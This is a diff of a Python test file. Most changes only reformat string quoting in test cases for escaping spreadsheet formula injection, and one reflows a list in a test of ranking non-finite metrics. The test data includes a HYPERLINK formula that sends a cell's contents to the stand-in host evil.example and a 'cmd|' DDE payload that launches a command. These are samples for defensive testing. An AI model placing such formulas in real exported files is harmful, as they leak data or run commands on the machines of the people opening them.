@@ -52,12 +52,12 @@ def test_markdown_cells_escape_html_and_pipes_on_one_line(raw, cell):
     ("value", "line"),
     [
         (FORMULA, '"\'=HYPERLINK(""evil.example?q=""&A1,""open"")"'),
-        ("+1+cmd", "\"'+1+cmd\""),
+        ("+1+cmd", '"\'+1+cmd"'),
         ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
-        ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
-        ("\t=1+1", "\"' =1+1\""),  # a tab first, then the formula
-        ("\r=1+1", "\"' =1+1\""),
-        ("  =1+1", "\"'  =1+1\""),  # spaces before the formula
+        ("@SUM(A1:A9)", '"\'@SUM(A1:A9)"'),
+        ("\t=1+1", '"\' =1+1"'),  # a tab first, then the formula
+        ("\r=1+1", '"\' =1+1"'),
+        ("  =1+1", '"\'  =1+1"'),  # spaces before the formula
         ("\uff1d1+1", '"\'\uff1d1+1"'),  # a full-width equals sign
         ("-5.10", "-5.10"),  # a number we wrote: data, not a formula
         ("+3", "+3"),
@@ -244,7 +244,12 @@ def _run(label: str, value: float, answers: dict | None = None) -> RunScores:
 
 def test_a_non_finite_or_impossible_metric_is_left_out_and_never_ranked():
     notes = Notes()
-    runs = [_run("good", 0.6), _run("infinite", math.inf), _run("huge", 1e308), _run("nan", math.nan)]
+    runs = [
+        _run("good", 0.6),
+        _run("infinite", math.inf),
+        _run("huge", 1e308),
+        _run("nan", math.nan),
+    ]
     rows = tables.rank_rows(tables.build_rows(runs, "alignment", notes))
     assert [r.label for r in rows] == ["good", "nan"]  # Infinity and 1e308 left out
     assert tables.ranks(rows) == [1, None]  # a row without a score is shown, not ranked
